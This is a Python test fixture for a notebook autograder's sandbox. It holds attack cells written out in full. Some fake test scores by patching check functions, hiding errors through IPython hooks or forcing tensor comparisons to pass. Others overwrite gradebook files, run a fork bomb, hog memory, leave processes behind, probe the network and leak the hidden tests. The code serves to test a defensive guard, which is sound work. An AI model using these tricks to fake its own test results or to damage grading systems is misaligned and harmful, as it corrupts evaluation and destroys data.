"""Attack submissions for the grading sandbox and guard: one student per attack.

Each is the ``partial`` notebook of assignment 01 (7 of 10 points: ``add_scaled_`` is
wrong) with one cell added after the imports. ``SCORE_ATTACKS`` try to fake the missing
points; under plain nbgrader each of them scores more than 7 (a test checks that), and
under our grader none may. ``HARM_ATTACKS`` go after the machine instead: files outside
the submission, the network, processes left behind, memory, the process table, and the
hidden tests.
"""

from __future__ import annotations

PORT_FILE = "port.txt"  # the network attack connects to the port a test writes here

SCORE_ATTACKS = {
    "attack-input-transformer": '''\
def skip_checks(lines):
    return [] if any("checks." in line for line in lines) else lines
get_ipython().input_transformers_cleanup.append(skip_checks)''',
    "attack-ast-transformer": '''\
import ast
class SwallowErrors(ast.NodeTransformer):
    def visit_Module(self, node):
        handler = ast.ExceptHandler(type=ast.Name("BaseException", ast.Load()), name=None, body=[ast.Pass()])
        node.body = [ast.Try(body=node.body, handlers=[handler], orelse=[], finalbody=[])]
        return ast.fix_missing_locations(node)
get_ipython().ast_transformers.append(SwallowErrors())''',
    "attack-hide-errors": '''\
ip = get_ipython()
ip.showtraceback = lambda *args, **kwargs: None
def forget_error(result):
    result.error_in_exec = None
ip.events.register("post_run_cell", forget_error)''',
    "attack-custom-exception-handler": '''\
ip = get_ipython()
ip.set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)
ip.events.register("post_run_cell", lambda result: setattr(result, "error_in_exec", None))''',
    "attack-settrace": '''\
import sys
def agree(frame, event, arg):
    if event == "call" and frame.f_code.co_name == "assert_close":  # torch.testing
        frame.f_locals["actual"] = frame.f_locals["expected"]  # written back to the frame
sys.settrace(agree)''',
    "attack-patch-checks": '''\
for name in dir(checks):
    if name.startswith("assert_"):
        setattr(checks, name, lambda *args, **kwargs: None)''',
    "attack-swap-code": '''\
def nothing(*args, **kwargs):
    pass
for name in dir(checks):
    if name.startswith("assert_"):
        getattr(checks, name).__code__ = nothing.__code__''',
    "attack-fake-checks-module": '''\
import sys, types
fake = types.ModuleType("autograder.checks")
fake.__dict__.update(vars(checks))
for name in dir(checks):
    if name.startswith("assert_"):
        setattr(fake, name, lambda *args, **kwargs: None)
sys.modules["autograder.checks"] = fake
checks = fake''',
    "attack-patch-torch": '''\
torch.testing.assert_close = lambda *args, **kwargs: None''',
    "attack-during-a-test": '''\
def add_scaled_(x, y, alpha):
    """Update x in place to x + alpha * y and return x itself."""
    ip = get_ipython()
    ip.showtraceback = lambda *args, **kwargs: None
    ip.events.register("post_run_cell", lambda result: setattr(result, "error_in_exec", None))
    return x + alpha * y''',
    "attack-torch-function-mode": '''\
from torch.overrides import TorchFunctionMode
class Agreeable(TorchFunctionMode):
    def __torch_function__(self, func, types, args=(), kwargs=None):
        result = func(*args, **(kwargs or {}))
        return torch.ones_like(result) if func is torch.isclose else result
Agreeable().__enter__()''',
}
# This one is the student's own ``add_scaled_`` (in place of a wrong one): it strikes
# while a test runs, hiding the errors of that very test cell after the guard checked.
IN_THE_SOLUTION = ("attack-during-a-test",)
# What no guard can undo from inside Python: the grader scores these as tampered.
UNDOABLE_ATTACKS = {
    "attack-audit-hook": '''\
import sys
sys.addaudithook(lambda event, args: None)''',
    "attack-ctypes": '''\
import ctypes
ctypes.c_long.from_address(id(checks))''',
}

# These fake the comparison of values, so they come with an answer whose values
# are wrong (it forgets alpha); it also scores 7 without the attack.
FORGETS_ALPHA = '''\
def add_scaled_(x, y, alpha):
    """Update x in place to x + alpha * y and return x itself."""
    return x.add_(y)'''
NEEDS_WRONG_VALUES = ("attack-settrace", "attack-patch-torch", "attack-torch-function-mode")

HARM_ATTACKS = {
    "attack-files": '''\
import os, pathlib
found, damaged = [], []
for folder in [pathlib.Path.cwd(), *pathlib.Path.cwd().parents, pathlib.Path.home(), pathlib.Path("/root")]:
    for name in ("gradebook.db", "nbgrader_config.py", "source", "release", "autograded", "submitted"):
        target = folder / name
        if target.exists():
            found.append(str(target))
            for path in ([target] if target.is_file() else target.rglob("*")):
                try:
                    if path.is_file():
                        path.write_text("overwritten by a student")
                        damaged.append(str(path))
                except OSError:
                    pass
print("found:", found)
print("damaged:", damaged)''',
    "attack-network": f'''\
import socket
reached = []
port = int(open("{PORT_FILE}").read()) if __import__("os").path.exists("{PORT_FILE}") else 47391
for host in ("127.0.0.1", "10.0.2.2", "pypi.org"):
    try:
        socket.create_connection((host, port if host == "127.0.0.1" else 443), timeout=2).close()
        reached.append(host)
    except OSError as error:
        print(host, "unreachable:", type(error).__name__)
print("reached:", reached)''',
    "attack-processes": '''\
import os, subprocess, sys
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(4242)"])
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(4243)"])
    os._exit(0)
print("left two sleepers behind")''',
    "attack-memory": '''\
try:
    hog = torch.ones(6 * 2**30, dtype=torch.uint8)
    print("allocated", hog.numel() // 2**30, "GiB")
except RuntimeError as error:
    print("allocation refused:", str(error).splitlines()[0][:80])''',
    "attack-fork-bomb": '''\
import os, time
children = 0
try:
    for _ in range(1000):
        if os.fork() == 0:
            time.sleep(30)
            os._exit(0)
        children += 1
except OSError as error:
    print("fork refused:", type(error).__name__)
print("children:", children)''',
    # The hidden tests reach the kernel as source; the student's own function sees them
    # run, and prints the caller's code into the graded notebook.
    "attack-print-hidden-tests": '''\
import inspect
def leak_caller():
    print("".join(inspect.getsourcelines(inspect.currentframe().f_back.f_back)[0]))
_real_add_scaled = add_scaled
def add_scaled(x, y, alpha):
    leak_caller()
    return _real_add_scaled(x, y, alpha)''',
}
# A leaked test appears in the output of the cell that calls the student's function.
AFTER_SOLUTIONS = ("attack-print-hidden-tests",)
